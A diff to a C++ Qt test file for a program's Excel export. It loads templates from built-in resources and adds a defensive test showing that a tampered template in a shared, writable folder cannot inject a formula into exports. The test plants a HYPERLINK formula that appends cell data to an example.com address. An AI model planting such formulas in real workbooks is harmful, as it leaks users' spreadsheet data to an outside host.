@@ -18,7 +18,7 @@
 namespace
 {
 
-const QString Templates = QStringLiteral(LUMORA_BINARY_DIR "/Database");
+const QString Templates = QStringLiteral(":/templates");
 const QString Fixtures = QStringLiteral(LUMORA_SOURCE_DIR "/tests/fixtures");
 
 QByteArray ReadFile(const QString &Name)
@@ -151,7 +151,8 @@ class TestExcel : public QObject
         QCOMPARE(dump.Rows[2].mid(0, 3), (QStringList{"a", "", "c"}));
         // The template's look survives: its face and column widths.
         QCOMPARE(dump.Font, QStringLiteral("宋体"));
-        QCOMPARE(dump.Widths, ReadBack(Templates + "/pondo.xls").Widths);
+        WriteFile(dir.filePath("template.xls"), ReadFile(Templates + "/pondo.xls")); // for python
+        QCOMPARE(dump.Widths, ReadBack(dir.filePath("template.xls")).Widths);
         QVERIFY(dump.Widths[4] > dump.Widths[0]);
         // A saved workbook opens again and appends below its own rows.
         TclsWorkbook again(ReadFile(dir.filePath("a.xls")), "Sheet1");
@@ -331,6 +332,32 @@ class TestExcel : public QObject
                 QCOMPARE(Base64::ToGB18030(dump.Rows[r + 1][c]), rows[c][r]);
         QCOMPARE(dump.Rows[1][2], QString(16, ' '));
         QCOMPARE(dump.Rows[1][3], QStringLiteral("        3.50    "));
+    }
+
+    // The templates are the program's own: a workbook planted in the shared
+    // Database/ folder (any member may write it) changes no export.
+    void plantedTemplatesChangeNothing()
+    {
+        TMainFixture f;
+        const QString shared = QCoreApplication::applicationDirPath() + "/Database";
+        QVERIFY(QDir().mkpath(shared));
+        auto clean = qScopeGuard([&] {
+            QFile::remove(shared + "/pondo.xls");
+            QDir().rmdir(shared);
+            TfrmMain::SetTemplateFolder(Templates);
+        });
+        TclsWorkbook planted(ReadFile(Templates + "/pondo.xls"), "Sheet1");
+        planted.AppendRow({"=HYPERLINK(\"http://example.com/\"&A1)"});
+        WriteFile(shared + "/pondo.xls", planted.Save());
+        TfrmMain::SetTemplateFolder(QString()); // the program's own choice
+        QTemporaryDir dir;
+        const QString file = dir.filePath("out.xls");
+        TModalAnswerer answers;
+        Export(f, "mnuInAndOut_More_SaveAsExcel_1", file, answers);
+        const TSheetDump dump = ReadBack(file);
+        QVERIFY(!dump.Rows.isEmpty());
+        for (const QStringList &row : dump.Rows)
+            QVERIFY2(!row.join("").contains("HYPERLINK"), qPrintable(row.join("|")));
     }
 
     void emptyRangeAndFailures()
